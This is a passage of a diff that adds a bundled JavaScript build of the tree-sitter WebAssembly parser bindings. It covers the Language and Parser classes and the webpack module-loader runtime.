+   * A query step is 'definite' if its parent pattern will be guaranteed to
+   * match successfully once it reaches the step.
+   */
+  isPatternGuaranteedAtStep(byteIndex) {
+    return C._ts_query_is_pattern_guaranteed_at_step(this[0], byteIndex) === 1;
+  }
+};
+
+// src/language.ts
+var LANGUAGE_FUNCTION_REGEX = /^tree_sitter_\w+$/;
+var Language = class _Language {
+  static {
+    __name(this, "Language");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for WASM
+  /**
+   * A list of all node types in the language. The index of each type in this
+   * array is its node type id.
+   */
+  types;
+  /**
+   * A list of all field names in the language. The index of each field name in
+   * this array is its field id.
+   */
+  fields;
+  /** @internal */
+  constructor(internal, address) {
+    assertInternal(internal);
+    this[0] = address;
+    this.types = new Array(C._ts_language_symbol_count(this[0]));
+    for (let i2 = 0, n = this.types.length; i2 < n; i2++) {
+      if (C._ts_language_symbol_type(this[0], i2) < 2) {
+        this.types[i2] = C.UTF8ToString(C._ts_language_symbol_name(this[0], i2));
+      }
+    }
+    this.fields = new Array(C._ts_language_field_count(this[0]) + 1);
+    for (let i2 = 0, n = this.fields.length; i2 < n; i2++) {
+      const fieldName = C._ts_language_field_name_for_id(this[0], i2);
+      if (fieldName !== 0) {
+        this.fields[i2] = C.UTF8ToString(fieldName);
+      } else {
+        this.fields[i2] = null;
+      }
+    }
+  }
+  /**
+   * Gets the name of the language.
+   */
+  get name() {
+    const ptr = C._ts_language_name(this[0]);
+    if (ptr === 0) return null;
+    return C.UTF8ToString(ptr);
+  }
+  /**
+   * @deprecated since version 0.25.0, use {@link Language#abiVersion} instead
+   * Gets the version of the language.
+   */
+  get version() {
+    return C._ts_language_version(this[0]);
+  }
+  /**
+   * Gets the ABI version of the language.
+   */
+  get abiVersion() {
+    return C._ts_language_abi_version(this[0]);
+  }
+  /**
+  * Get the metadata for this language. This information is generated by the
+  * CLI, and relies on the language author providing the correct metadata in
+  * the language's `tree-sitter.json` file.
+  */
+  get metadata() {
+    C._ts_language_metadata(this[0]);
+    const length = C.getValue(TRANSFER_BUFFER, "i32");
+    const address = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    if (length === 0) return null;
+    return unmarshalLanguageMetadata(address);
+  }
+  /**
+   * Gets the number of fields in the language.
+   */
+  get fieldCount() {
+    return this.fields.length - 1;
+  }
+  /**
+   * Gets the number of states in the language.
+   */
+  get stateCount() {
+    return C._ts_language_state_count(this[0]);
+  }
+  /**
+   * Get the field id for a field name.
+   */
+  fieldIdForName(fieldName) {
+    const result = this.fields.indexOf(fieldName);
+    return result !== -1 ? result : null;
+  }
+  /**
+   * Get the field name for a field id.
+   */
+  fieldNameForId(fieldId) {
+    return this.fields[fieldId] ?? null;
+  }
+  /**
+   * Get the node type id for a node type name.
+   */
+  idForNodeType(type, named) {
+    const typeLength = C.lengthBytesUTF8(type);
+    const typeAddress = C._malloc(typeLength + 1);
+    C.stringToUTF8(type, typeAddress, typeLength + 1);
+    const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named ? 1 : 0);
+    C._free(typeAddress);
+    return result || null;
+  }
+  /**
+   * Gets the number of node types in the language.
+   */
+  get nodeTypeCount() {
+    return C._ts_language_symbol_count(this[0]);
+  }
+  /**
+   * Get the node type name for a node type id.
+   */
+  nodeTypeForId(typeId) {
+    const name2 = C._ts_language_symbol_name(this[0], typeId);
+    return name2 ? C.UTF8ToString(name2) : null;
+  }
+  /**
+   * Check if a node type is named.
+   *
+   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/2-basic-parsing.html#named-vs-anonymous-nodes}
+   */
+  nodeTypeIsNamed(typeId) {
+    return C._ts_language_type_is_named_wasm(this[0], typeId) ? true : false;
+  }
+  /**
+   * Check if a node type is visible.
+   */
+  nodeTypeIsVisible(typeId) {
+    return C._ts_language_type_is_visible_wasm(this[0], typeId) ? true : false;
+  }
+  /**
+   * Get the supertypes ids of this language.
+   *
+   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/6-static-node-types.html?highlight=supertype#supertype-nodes}
+   */
+  get supertypes() {
+    C._ts_language_supertypes_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = C.getValue(address, "i16");
+        address += SIZE_OF_SHORT;
+      }
+    }
+    return result;
+  }
+  /**
+   * Get the subtype ids for a given supertype node id.
+   */
+  subtypes(supertype) {
+    C._ts_language_subtypes_wasm(this[0], supertype);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = C.getValue(address, "i16");
+        address += SIZE_OF_SHORT;
+      }
+    }
+    return result;
+  }
+  /**
+   * Get the next state id for a given state id and node type id.
+   */
+  nextState(stateId, typeId) {
+    return C._ts_language_next_state(this[0], stateId, typeId);
+  }
+  /**
+   * Create a new lookahead iterator for this language and parse state.
+   *
+   * This returns `null` if state is invalid for this language.
+   *
+   * Iterating {@link LookaheadIterator} will yield valid symbols in the given
+   * parse state. Newly created lookahead iterators will return the `ERROR`
+   * symbol from {@link LookaheadIterator#currentType}.
+   *
+   * Lookahead iterators can be useful for generating suggestions and improving
+   * syntax error diagnostics. To get symbols valid in an `ERROR` node, use the
+   * lookahead iterator on its first leaf node state. For `MISSING` nodes, a
+   * lookahead iterator created on the previous non-extra leaf node may be
+   * appropriate.
+   */
+  lookaheadIterator(stateId) {
+    const address = C._ts_lookahead_iterator_new(this[0], stateId);
+    if (address) return new LookaheadIterator(INTERNAL, address, this);
+    return null;
+  }
+  /**
+   * @deprecated since version 0.25.0, call `new` on a {@link Query} instead
+   *
+   * Create a new query from a string containing one or more S-expression
+   * patterns.
+   *
+   * The query is associated with a particular language, and can only be run
+   * on syntax nodes parsed with that language. References to Queries can be
+   * shared between multiple threads.
+   *
+   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
+   */
+  query(source) {
+    console.warn("Language.query is deprecated. Use new Query(language, source) instead.");
+    return new Query(this, source);
+  }
+  /**
+   * Load a language from a WebAssembly module.
+   * The module can be provided as a path to a file or as a buffer.
+   */
+  static async load(input) {
+    let bytes;
+    if (input instanceof Uint8Array) {
+      bytes = Promise.resolve(input);
+    } else {
+      if (globalThis.process?.versions.node) {
+        const fs2 = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 943, 23));
+        bytes = fs2.readFile(input);
+      } else {
+        bytes = fetch(input).then((response) => response.arrayBuffer().then((buffer) => {
+          if (response.ok) {
+            return new Uint8Array(buffer);
+          } else {
+            const body2 = new TextDecoder("utf-8").decode(buffer);
+            throw new Error(`Language.load failed with status ${response.status}.
+
+${body2}`);
+          }
+        }));
+      }
+    }
+    const mod = await C.loadWebAssemblyModule(await bytes, { loadAsync: true });
+    const symbolNames = Object.keys(mod);
+    const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
+    if (!functionName) {
+      console.log(`Couldn't find language function in WASM file. Symbols:
+${JSON.stringify(symbolNames, null, 2)}`);
+      throw new Error("Language.load failed: no language function found in WASM file");
+    }
+    const languageAddress = mod[functionName]();
+    return new _Language(INTERNAL, languageAddress);
+  }
+};
+
+// src/bindings.ts
+var import_tree_sitter = __toESM(require_tree_sitter(), 1);
+var Module2 = null;
+async function initializeBinding(moduleOptions) {
+  if (!Module2) {
+    Module2 = await (0, import_tree_sitter.default)(moduleOptions);
+  }
+  return Module2;
+}
+__name(initializeBinding, "initializeBinding");
+function checkModule() {
+  return !!Module2;
+}
+__name(checkModule, "checkModule");
+
+// src/parser.ts
+var TRANSFER_BUFFER;
+var LANGUAGE_VERSION;
+var MIN_COMPATIBLE_VERSION;
+var Parser = class {
+  static {
+    __name(this, "Parser");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for WASM
+  /** @internal */
+  [1] = 0;
+  // Internal handle for WASM
+  /** @internal */
+  logCallback = null;
+  /** The parser's current language. */
+  language = null;
+  /**
+   * This must always be called before creating a Parser.
+   *
+   * You can optionally pass in options to configure the WASM module, the most common
+   * one being `locateFile` to help the module find the `.wasm` file.
+   */
+  static async init(moduleOptions) {
+    setModule(await initializeBinding(moduleOptions));
+    TRANSFER_BUFFER = C._ts_init();
+    LANGUAGE_VERSION = C.getValue(TRANSFER_BUFFER, "i32");
+    MIN_COMPATIBLE_VERSION = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+  }
+  /**
+   * Create a new parser.
+   */
+  constructor() {
+    this.initialize();
+  }
+  /** @internal */
+  initialize() {
+    if (!checkModule()) {
+      throw new Error("cannot construct a Parser before calling `init()`");
+    }
+    C._ts_parser_new_wasm();
+    this[0] = C.getValue(TRANSFER_BUFFER, "i32");
+    this[1] = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+  }
+  /** Delete the parser, freeing its resources. */
+  delete() {
+    C._ts_parser_delete(this[0]);
+    C._free(this[1]);
+    this[0] = 0;
+    this[1] = 0;
+  }
+  /**
+   * Set the language that the parser should use for parsing.
+   *
+   * If the language was not successfully assigned, an error will be thrown.
+   * This happens if the language was generated with an incompatible
+   * version of the Tree-sitter CLI. Check the language's version using
+   * {@link Language#version} and compare it to this library's
+   * {@link LANGUAGE_VERSION} and {@link MIN_COMPATIBLE_VERSION} constants.
+   */
+  setLanguage(language) {
+    let address;
+    if (!language) {
+      address = 0;
+      this.language = null;
+    } else if (language.constructor === Language) {
+      address = language[0];
+      const version = C._ts_language_version(address);
+      if (version < MIN_COMPATIBLE_VERSION || LANGUAGE_VERSION < version) {
+        throw new Error(
+          `Incompatible language version ${version}. Compatibility range ${MIN_COMPATIBLE_VERSION} through ${LANGUAGE_VERSION}.`
+        );
+      }
+      this.language = language;
+    } else {
+      throw new Error("Argument must be a Language");
+    }
+    C._ts_parser_set_language(this[0], address);
+    return this;
+  }
+  /**
+   * Parse a slice of UTF8 text.
+   *
+   * @param {string | ParseCallback} callback - The UTF8-encoded text to parse or a callback function.
+   *
+   * @param {Tree | null} [oldTree] - A previous syntax tree parsed from the same document. If the text of the
+   *   document has changed since `oldTree` was created, then you must edit `oldTree` to match
+   *   the new text using {@link Tree#edit}.
+   *
+   * @param {ParseOptions} [options] - Options for parsing the text.
+   *  This can be used to set the included ranges, or a progress callback.
+   *
+   * @returns {Tree | null} A {@link Tree} if parsing succeeded, or `null` if:
+   *  - The parser has not yet had a language assigned with {@link Parser#setLanguage}.
+   *  - The progress callback returned true.
+   */
+  parse(callback, oldTree, options) {
+    if (typeof callback === "string") {
+      C.currentParseCallback = (index) => callback.slice(index);
+    } else if (typeof callback === "function") {
+      C.currentParseCallback = callback;
+    } else {
+      throw new Error("Argument must be a string or a function");
+    }
+    if (options?.progressCallback) {
+      C.currentProgressCallback = options.progressCallback;
+    } else {
+      C.currentProgressCallback = null;
+    }
+    if (this.logCallback) {
+      C.currentLogCallback = this.logCallback;
+      C._ts_parser_enable_logger_wasm(this[0], 1);
+    } else {
+      C.currentLogCallback = null;
+      C._ts_parser_enable_logger_wasm(this[0], 0);
+    }
+    let rangeCount = 0;
+    let rangeAddress = 0;
+    if (options?.includedRanges) {
+      rangeCount = options.includedRanges.length;
+      rangeAddress = C._calloc(rangeCount, SIZE_OF_RANGE);
+      let address = rangeAddress;
+      for (let i2 = 0; i2 < rangeCount; i2++) {
+        marshalRange(address, options.includedRanges[i2]);
+        address += SIZE_OF_RANGE;
+      }
+    }
+    const treeAddress = C._ts_parser_parse_wasm(
+      this[0],
+      this[1],
+      oldTree ? oldTree[0] : 0,
+      rangeAddress,
+      rangeCount
+    );
+    if (!treeAddress) {
+      C.currentParseCallback = null;
+      C.currentLogCallback = null;
+      C.currentProgressCallback = null;
+      return null;
+    }
+    if (!this.language) {
+      throw new Error("Parser must have a language to parse");
+    }
+    const result = new Tree(INTERNAL, treeAddress, this.language, C.currentParseCallback);
+    C.currentParseCallback = null;
+    C.currentLogCallback = null;
+    C.currentProgressCallback = null;
+    return result;
+  }
+  /**
+   * Instruct the parser to start the next parse from the beginning.
+   *
+   * If the parser previously failed because of a timeout, cancellation,
+   * or callback, then by default, it will resume where it left off on the
+   * next call to {@link Parser#parse} or other parsing functions.
+   * If you don't want to resume, and instead intend to use this parser to
+   * parse some other document, you must call `reset` first.
+   */
+  reset() {
+    C._ts_parser_reset(this[0]);
+  }
+  /** Get the ranges of text that the parser will include when parsing. */
+  getIncludedRanges() {
+    C._ts_parser_included_ranges_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /**
+   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
+   *
+   * Get the duration in microseconds that parsing is allowed to take.
+   *
+   * This is set via {@link Parser#setTimeoutMicros}.
+   */
+  getTimeoutMicros() {
+    return C._ts_parser_timeout_micros(this[0]);
+  }
+  /**
+   * @deprecated since version 0.25.0, prefer passing a progress callback to {@link Parser#parse}
+   *
+   * Set the maximum duration in microseconds that parsing should be allowed
+   * to take before halting.
+   *
+   * If parsing takes longer than this, it will halt early, returning `null`.
+   * See {@link Parser#parse} for more information.
+   */
+  setTimeoutMicros(timeout) {
+    C._ts_parser_set_timeout_micros(this[0], 0, timeout);
+  }
+  /** Set the logging callback that a parser should use during parsing. */
+  setLogger(callback) {
+    if (!callback) {
+      this.logCallback = null;
+    } else if (typeof callback !== "function") {
+      throw new Error("Logger callback must be a function");
+    } else {
+      this.logCallback = callback;
+    }
+    return this;
+  }
+  /** Get the parser's current logger. */
+  getLogger() {
+    return this.logCallback;
+  }
+};
+// Annotate the CommonJS export names for ESM import in node:
+0 && (0);
+//# sourceMappingURL=tree-sitter.cjs.map
+
+
+/***/ })
+
+/******/ 	});
+/************************************************************************/
+/******/ 	// The module cache
+/******/ 	var __webpack_module_cache__ = {};
+/******/ 	
+/******/ 	// The require function
+/******/ 	function __nccwpck_require__(moduleId) {
+/******/ 		// Check if module is in cache
+/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
+/******/ 		if (cachedModule !== undefined) {
+/******/ 			return cachedModule.exports;
+/******/ 		}
+/******/ 		// Create a new module (and put it into the cache)
+/******/ 		var module = __webpack_module_cache__[moduleId] = {
+/******/ 			// no module.id needed
+/******/ 			// no module.loaded needed
+/******/ 			exports: {}
+/******/ 		};
+/******/ 	
+/******/ 		// Execute the module function
+/******/ 		var threw = true;
+/******/ 		try {
+/******/ 			__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
+/******/ 			threw = false;
+/******/ 		} finally {
+/******/ 			if(threw) delete __webpack_module_cache__[moduleId];
+/******/ 		}
+/******/ 	
+/******/ 		// Return the exports of the module
+/******/ 		return module.exports;
+/******/ 	}
+/******/ 	
+/************************************************************************/
+/******/ 	/* webpack/runtime/asset-relocator-loader */
+/******/ 	if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = __dirname + "/";
+/******/ 	
+/******/ 	/* webpack/runtime/create fake namespace object */
+/******/ 	(() => {
+/******/ 		var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
+/******/ 		var leafPrototypes;
+/******/ 		// create a fake namespace object
+/******/ 		// mode & 1: value is a module id, require it
+/******/ 		// mode & 2: merge all properties of value into the ns
+/******/ 		// mode & 4: return value when already ns object
+/******/ 		// mode & 16: return value when it's Promise-like
+/******/ 		// mode & 8|1: behave like require
+/******/ 		__nccwpck_require__.t = function(value, mode) {
+/******/ 			if(mode & 1) value = this(value);
+/******/ 			if(mode & 8) return value;
+/******/ 			if(typeof value === 'object' && value) {
+/******/ 				if((mode & 4) && value.__esModule) return value;
+/******/ 				if((mode & 16) && typeof value.then === 'function') return value;
+/******/ 			}
+/******/ 			var ns = Object.create(null);
+/******/ 			__nccwpck_require__.r(ns);
+/******/ 			var def = {};
+/******/ 			leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
+/******/ 			for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
+/******/ 				Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
+/******/ 			}
+/******/ 			def['default'] = () => (value);
+/******/ 			__nccwpck_require__.d(ns, def);
+/******/ 			return ns;
+/******/ 		};
+/******/ 	})();
+/******/ 	
+/******/ 	/* webpack/runtime/define property getters */
+/******/ 	(() => {
+/******/ 		// define getter functions for harmony exports
+/******/ 		__nccwpck_require__.d = (exports, definition) => {
+/******/ 			for(var key in definition) {
+/******/ 				if(__nccwpck_require__.o(definition, key) && !__nccwpck_require__.o(exports, key)) {
+/******/ 					Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
+/******/ 				}
+/******/ 			}
+/******/ 		};
+/******/ 	})();
+/******/ 	
+/******/ 	/* webpack/runtime/hasOwnProperty shorthand */
+/******/ 	(() => {
+/******/ 		__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
+/******/ 	})();
+/******/ 	
+/******/ 	/* webpack/runtime/make namespace object */
+/******/ 	(() => {
+/******/ 		// define __esModule on exports
+/******/ 		__nccwpck_require__.r = (exports) => {
+/******/ 			if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 				Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 			}
+/******/ 			Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 		};
+/******/ 	})();
+/******/ 	
+/************************************************************************/
+/******/ 	
+/******/ 	// startup
+/******/ 	// Load entry module and return exports
+/******/ 	// This entry module is referenced by other modules so it can't be inlined
+/******/ 	var __webpack_exports__ = __nccwpck_require__(929);
+/******/ 	module.exports = __webpack_exports__;
+/******/ 	
+/******/ })()
+;
